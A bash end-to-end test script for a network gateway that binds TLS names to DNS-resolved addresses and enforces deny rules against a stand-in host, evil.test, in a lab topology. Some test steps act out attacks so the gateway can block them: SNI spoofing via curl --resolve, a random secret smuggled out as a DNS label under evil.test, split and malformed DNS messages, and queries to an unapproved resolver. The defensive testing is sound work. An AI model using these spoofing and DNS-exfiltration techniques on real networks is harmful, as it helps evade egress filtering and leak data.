#!/usr/bin/env bash
# End-to-end: with sni_ip_binding: dns (the default), a flow allowed by the name it shows must go to an address
# DNS gave that name. dnsmasq in inet (on IPv4 and IPv6) answers A, AAAA and a CNAME chain; the gateway's data
# plane holds the answers until the daemon has bound the names (every name of a chain) to their addresses. curl then
# reaches allowed.test over IPv4 and IPv6, alias.test (a CNAME) and hint.test (only an HTTPS record's address
# hints bind it), and `curl --resolve allowed.test:443:<another
# address>` (SNI spoofing) and a name never resolved are denied as no-dns-binding. Then a blocklist (default
# allow, deny rules of tcp, udp and icmp to evil.test): evil.test's address is reachable until an answer binds
# it, refused from the very next flow (answers are held until the binding is in the data plane), and reachable
# again once the binding expires.
# Usage: dns_binding_test.sh SOURCE_DIR BUILD_DIR   (root; exit 77 = skipped)
set -euo pipefail
src_dir=${1:?usage: $0 SOURCE_DIR BUILD_DIR}
build_dir=${2:?usage: $0 SOURCE_DIR BUILD_DIR}
# shellcheck source=lib/topology.sh
. "$src_dir/test/e2e/lib/topology.sh"
# shellcheck source=lib/portcullis.sh
. "$src_dir/test/e2e/lib/portcullis.sh"
topo_skip_unless_ready ip openssl curl dnsmasq dig setsid timeout nsenter
PC_BIN=$build_dir/userspace/portcullis
pc_trap
topo_create
policy=$src_dir/test/e2e/policies/dns_binding.yaml

cert=$TOPO_LOG_DIR/cert.pem key=$TOPO_LOG_DIR/key.pem
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$key" -out "$cert" -days 1 -subj /CN=allowed.test 2>/dev/null
for addr in "$INET_ALLOWED_V4" "$INET_EVIL_V4"; do
  topo_start inet "tls-$addr" openssl s_server -accept "$addr:443" -cert "$cert" -key "$key" -www -quiet
  topo_wait_port inet tcp "$addr" 443
done
topo_start inet tls-v6 openssl s_server -accept "[$INET_ALLOWED_V6]:443" -cert "$cert" -key "$key" -www -quiet
topo_wait_port inet tcp "$INET_ALLOWED_V6" 443
# hint.test HTTPS 1 . ipv4hint=198.18.0.10 ipv6hint=2001:db8::10 (RFC 9460 wire format: priority, the root as
# target, then keys 4 and 6 with their lengths).
hint_rdata=00010000040004c612000a0006001020010db8000000000000000000000010
topo_start inet dnsmasq dnsmasq --no-daemon --no-resolv --no-hosts --bind-interfaces \
  --listen-address="$INET_DNS_V4" --listen-address="$INET_DNS_V6" --log-queries --log-facility=- \
  --address="/allowed.test/$INET_ALLOWED_V4" --address="/allowed.test/$INET_ALLOWED_V6" \
  --host-record="cdn.test,$INET_ALLOWED_V4" --cname=alias.test,cdn.test \
  --address="/time.test/$INET_ALLOWED_V4" --address="/git.test/$INET_ALLOWED_V4" \
  --address="/evil.test/$INET_EVIL_V4" \
  --dns-rr="hint.test,65,$hint_rdata"
topo_wait_port inet udp "$INET_DNS_V4" 53
topo_set_resolver client "$INET_DNS_V4"
topo_serve_udp_echo inet "$INET_ALLOWED_V4" 123
topo_serve_tcp_echo inet "$INET_ALLOWED_V4" 22
topo_serve_udp_echo inet "$INET_EVIL_V4" 123
topo_serve_tcp_echo inet "$INET_EVIL_V4" 22

https_get() {  # https_get URL [curl options]: the status code
  local url=$1
  shift
  in_ns client curl -sk --noproxy '*' --max-time 5 -o /dev/null -w '%{http_code}' "$@" "$url" || true
}

pc_start gw dns --policy "$policy" --mode gateway --inside "$GW_INSIDE" --outside "$GW_OUTSIDE"

echo "== names DNS bound pass"
expect_eq "a name never resolved is refused" "$(https_get https://allowed.test/ --resolve "allowed.test:443:$INET_ALLOWED_V4")" 000
expect_log "... as no-dns-binding" '"name":"allowed.test"' '"verdict":"deny"' '"reason":"no-dns-binding"'
expect_match "the resolver answers" "$(in_ns client dig +short +time=2 allowed.test A)" "^$INET_ALLOWED_V4$"
expect_eq "https to allowed.test, resolved through DNS" "$(https_get https://allowed.test/ -4)" 200
expect_eq "https to allowed.test over IPv6 (AAAA)" "$(https_get https://allowed.test/ -6)" 200
expect_eq "https to alias.test, a CNAME to cdn.test" "$(https_get https://alias.test/)" 200
expect_log "allowed by name, bound" '"name":"allowed.test"' '"verdict":"allow"' '"rule":"allowed"'
expect_log "alias allowed through its chain" '"name":"alias.test"' '"verdict":"allow"' '"rule":"alias"'

echo "== SNI spoofing is denied"
expect_eq "allowed.test's name to evil.test's address" \
  "$(https_get https://allowed.test/ --resolve "allowed.test:443:$INET_EVIL_V4")" 000
expect_log "... as no-dns-binding" '"dst":"198.18.0.20"' '"name":"allowed.test"' '"reason":"no-dns-binding"'

echo "== HTTPS records' address hints bind"
expect_eq "hint.test, never resolved, is refused" \
  "$(https_get https://hint.test/ --resolve "hint.test:443:$INET_ALLOWED_V4")" 000
expect_match "dig hint.test HTTPS" "$(in_ns client dig +short +time=2 +tries=1 hint.test HTTPS)" "ipv4hint=$INET_ALLOWED_V4"
expect_eq "then https to the IPv4 hint passes" \
  "$(https_get https://hint.test/ --resolve "hint.test:443:$INET_ALLOWED_V4")" 200
expect_eq "and to the IPv6 hint" "$(https_get https://hint.test/ --resolve "hint.test:443:[$INET_ALLOWED_V6]")" 200
expect_eq "not to another address" "$(https_get https://hint.test/ --resolve "hint.test:443:$INET_EVIL_V4")" 000
expect_log "allowed through the hint's binding" '"name":"hint.test"' '"verdict":"allow"' '"rule":"hinted"'

echo "== rules of other protocols to a name match through the bindings"
expect_fail "udp to time.test's address before time.test was resolved" \
  env TOPO_UDP_TIMEOUT=2 bash -c ". '$src_dir/test/e2e/lib/topology.sh'; TOPO_PREFIX='$TOPO_PREFIX'; topo_udp_roundtrip client $INET_ALLOWED_V4 123 tick"
expect_match "dig time.test" "$(in_ns client dig +short +time=2 +tries=1 time.test A)" "^$INET_ALLOWED_V4$"
expect_match "then udp to it passes (a udp rule to a name)" "$(topo_udp_roundtrip client "$INET_ALLOWED_V4" 123 tick)" "tick"
in_ns client dig +short +time=2 +tries=1 allowed.test A >/dev/null  # bindings live 3 s in this policy
expect_ok "ping allowed.test's address (an icmp rule to a name it was resolved for)" \
  in_ns client ping -c 1 -W 2 "$INET_ALLOWED_V4"
expect_match "dig git.test" "$(in_ns client dig +short +time=2 +tries=1 git.test A)" "^$INET_ALLOWED_V4$"
expect_match "an SSH banner to git.test's address (an ssh rule to a name)" \
  "$(printf 'SSH-2.0-OpenSSH_9.2p1\r\n' | in_ns client timeout 5 socat -t 1 - "TCP:$INET_ALLOWED_V4:22")" "^SSH-2.0"
expect_log "udp allowed through time.test's binding" '"proto":"udp"' '"dport":123' '"verdict":"allow"' '"rule":"ntp"'
expect_log "udp refused before it" '"proto":"udp"' '"dport":123' '"verdict":"deny"'

echo "== queries for names no rule allows never reach the resolver (filter_queries)"
dnsmasq_log=$TOPO_LOG_DIR/dnsmasq.log
expect_match "dig evil.test gets NXDOMAIN" "$(in_ns client dig +time=2 +tries=1 evil.test A)" "status: NXDOMAIN"
secret=$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')
expect_match "a secret in a query name gets NXDOMAIN" "$(in_ns client dig +time=2 +tries=1 "$secret.evil.test" A)" \
  "status: NXDOMAIN"
expect_match "a query for an allowed name is answered" "$(in_ns client dig +short +time=2 +tries=1 allowed.test A)" \
  "^$INET_ALLOWED_V4$"
expect_match "over TCP too" "$(in_ns client dig +tcp +short +time=2 +tries=1 allowed.test A)" "^$INET_ALLOWED_V4$"
expect_fail "a TCP query for evil.test is cut" bash -c "ip netns exec '$NS_CLIENT' dig +tcp +time=2 +tries=1 evil.test A | grep -q 'ANSWER SECTION'"
# A query over TCP in two segments: its length and the start of the message, then, 0.2 s later, the rest (nodelay:
# each write goes out as it is). The reply in hex; socat's warnings (a reset) in $split_err.
split_err=$TOPO_LOG_DIR/split_query.err
tcp_query_split() {  # tcp_query_split FIRST_PART REST (printf formats)
  # shellcheck disable=SC2059
  { printf "$1"; sleep 0.2; printf "$2"; sleep 1; } |
    in_ns client timeout 5 socat -d -t 2 - "TCP:$INET_DNS_V4:53,nodelay" 2>"$split_err" | od -An -tx1 | tr -d ' \n' ||
    true
}
# allowed.test A, ID 0x1234: 30 bytes, cut inside the first label. The answer holds A 198.18.0.10 (c612000a).
expect_match "a TCP query for allowed.test split across two segments is answered" \
  "$(tcp_query_split '\x00\x1e\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07all' \
    'owed\x04test\x00\x00\x01\x00\x01')" "^....1234.*c612000a$"
# split.evil.test A: 33 bytes, cut the same way.
expect_eq "a TCP query for split.evil.test split the same way gets no answer" \
  "$(tcp_query_split '\x00\x21\x12\x35\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05spl' \
    'it\x04evil\x04test\x00\x00\x01\x00\x01')" ""
expect_ok "... its connection is reset" grep -qi "reset" "$split_err"
expect_log "... and it is logged as filtered" '"proto":"tcp"' '"l7":"dns"' '"name":"split.evil.test"' \
  '"reason":"query-filtered"'
expect_fail "DNS to another server than the resolvers is refused" \
  bash -c "ip netns exec '$NS_CLIENT' dig @$INET_EVIL_V4 +time=1 +tries=1 allowed.test A | grep -q 'ANSWER SECTION'"
sleep 0.3
expect_ok "the resolver saw allowed.test" grep -q "query\[A\] allowed.test" "$dnsmasq_log"
expect_fail "the resolver never saw evil.test or the secret" grep -qE "evil\.test|$secret" "$dnsmasq_log"
expect_log "filtered queries are logged" '"l7":"dns"' '"name":"evil.test"' '"verdict":"deny"' '"reason":"query-filtered"'

echo "== bindings expire; flows decided while they lived go on"
expect_match "dig git.test" "$(in_ns client dig +short +time=2 +tries=1 git.test A)" "^$INET_ALLOWED_V4$"
expect_match "a connection opened while git.test was bound still carries data after the binding expired" \
  "$( (printf 'SSH-2.0-OpenSSH_9.2p1\r\n'; sleep 4; printf 'after-expiry\n') |
    in_ns client timeout 10 socat -t 2 - "TCP:$INET_ALLOWED_V4:22")" "after-expiry"
expect_match "a new one, with no answer since, is refused" \
  "$(printf 'SSH-2.0-OpenSSH_9.2p1\r\n' | in_ns client timeout 5 socat -t 1 - "TCP:$INET_ALLOWED_V4:22" 2>&1 || true)" \
  "^$|reset|refused"
expect_log "... as its name is no longer bound" '"dport":22' '"l7":"ssh"' '"verdict":"deny"'
expect_match "dig +tcp git.test: an answer over TCP" "$(in_ns client dig +tcp +short +time=2 +tries=1 git.test A)" \
  "^$INET_ALLOWED_V4$"
expect_match "binds too" \
  "$(printf 'SSH-2.0-OpenSSH_9.2p1\r\n' | in_ns client timeout 5 socat -t 1 - "TCP:$INET_ALLOWED_V4:22")" "^SSH-2.0"

echo "== the resolver over IPv6"
sleep 3.5  # every binding so far has expired (max_ttl: 3)
expect_eq "https to allowed.test's IPv6 address with no answer since is refused" \
  "$(https_get https://allowed.test/ -6 --resolve "allowed.test:443:[$INET_ALLOWED_V6]")" 000
expect_match "dig @$INET_DNS_V6 allowed.test AAAA" \
  "$(in_ns client dig +short +time=2 +tries=1 "@$INET_DNS_V6" allowed.test AAAA)" "^$INET_ALLOWED_V6$"
expect_eq "then it passes: the answer over IPv6 bound it" \
  "$(https_get https://allowed.test/ -6 --resolve "allowed.test:443:[$INET_ALLOWED_V6]")" 200
expect_match "a query for evil.test over IPv6 gets NXDOMAIN too" \
  "$(in_ns client dig +time=2 +tries=1 "@$INET_DNS_V6" evil.test AAAA)" "status: NXDOMAIN"
expect_fail "and never reaches the resolver" grep -q "evil\.test" "$dnsmasq_log"

pc_stop
expect_match "the daemon read the answers" "$(tail -n 1 "$PC_LOG")" '"dns_answers":[1-9]'

echo "== a blocklist: deny rules of L4 protocols to a name hold against what the default allows"
https_evil() { https_get "https://$INET_EVIL_V4/"; }
# The daemon reads its policy from a file of this run, so SIGHUP can be shown another one.
blocklist=$TOPO_LOG_DIR/blocklist.yaml
cp "$src_dir/test/e2e/policies/dns_blocklist.yaml" "$blocklist"
pc_start gw blocklist --policy "$blocklist" --mode gateway --inside "$GW_INSIDE" --outside "$GW_OUTSIDE"
expect_eq "evil.test's address, never resolved, is allowed by default" "$(https_evil)" 200
expect_match "udp to it too" "$(topo_udp_roundtrip client "$INET_EVIL_V4" 123 tick)" "tick"
expect_ok "and ping" in_ns client ping -c 1 -W 2 "$INET_EVIL_V4"
# No pause between the answer and the flows: the answer is held until its binding is in the data plane.
expect_eq "once dig evil.test has bound it, https to the address is refused at once" \
  "$(in_ns client dig +short +time=2 +tries=1 evil.test A) $(https_evil)" "$INET_EVIL_V4 000"
expect_log "... by the tcp rule to evil.test" "\"dst\":\"$INET_EVIL_V4\"" '"dport":443' '"verdict":"deny"' \
  '"rule":"no-evil-tls"'
resolve_evil() { in_ns client dig +short +time=2 +tries=1 evil.test A >/dev/null; }  # dnsmasq's TTL: 0, bound 2 s
resolve_evil
expect_fail "udp to it is refused" \
  env TOPO_UDP_TIMEOUT=2 bash -c ". '$src_dir/test/e2e/lib/topology.sh'; TOPO_PREFIX='$TOPO_PREFIX'; topo_udp_roundtrip client $INET_EVIL_V4 123 tock"
resolve_evil
expect_ok "ping is refused at once" pc_ping_refused client "$INET_EVIL_V4"
resolve_evil
expect_match "ssh to it is refused once its first bytes show SSH" \
  "$(printf 'SSH-2.0-OpenSSH_9.2p1\r\n' | in_ns client timeout 5 socat -t 1 - "TCP:$INET_EVIL_V4:22" 2>&1 || true)" \
  "^$|reset|refused"
expect_log "... by the ssh rule to evil.test" "\"dst\":\"$INET_EVIL_V4\"" '"dport":22' '"l7":"ssh"' '"verdict":"deny"' \
  '"rule":"no-evil-ssh"'
resolve_evil
expect_match "other bytes to that port, which no deny rule names, still pass" \
  "$(printf 'hello\n' | in_ns client timeout 5 socat -t 1 - "TCP:$INET_EVIL_V4:22")" "^hello"
expect_eq "allowed.test is not touched" "$(https_get https://allowed.test/)" 200
sed '/no-evil/d' "$src_dir/test/e2e/policies/dns_blocklist.yaml" >"$blocklist"
pc_signal HUP
expect_ok "a reload without the deny rules" pc_log_line '"event":"reload"' '"ok":true' '"generation":2'
resolve_evil
expect_eq "then the address, bound again, is allowed" "$(https_evil)" 200
cp "$src_dir/test/e2e/policies/dns_blocklist.yaml" "$blocklist"
pc_signal HUP
expect_ok "a reload that brings them back" pc_log_line '"event":"reload"' '"ok":true' '"generation":3'
expect_eq "refuses it at once: the reload marked what the bindings held bind" "$(https_evil)" 000
sleep 3.5  # max_ttl: 3
expect_eq "once the binding has expired, the address is allowed again" "$(https_evil)" 200
# A resolver of the policy that answers with 3 bytes: no DNS message.
printf '\022\064\201' >"$TOPO_LOG_DIR/broken-answer"
topo_start inet broken-resolver socat "UDP4-RECVFROM:53,bind=$INET_EVIL_V4,fork" "EXEC:cat $TOPO_LOG_DIR/broken-answer"
sleep 0.3
expect_eq "an answer that does not parse is dropped: the client hears nothing" \
  "$(printf 'query' | in_ns client timeout 3 socat -t 1 - "UDP4:$INET_EVIL_V4:53" | wc -c)" 0
pc_stop
expect_match "every answer was held, then sent on" "$(tail -n 1 "$PC_LOG")" '"dns_answers":[1-9].*"answer_hold":\{'
expect_match "the one that did not parse is counted" "$(tail -n 1 "$PC_LOG")" '"dns_malformed":1,'

report
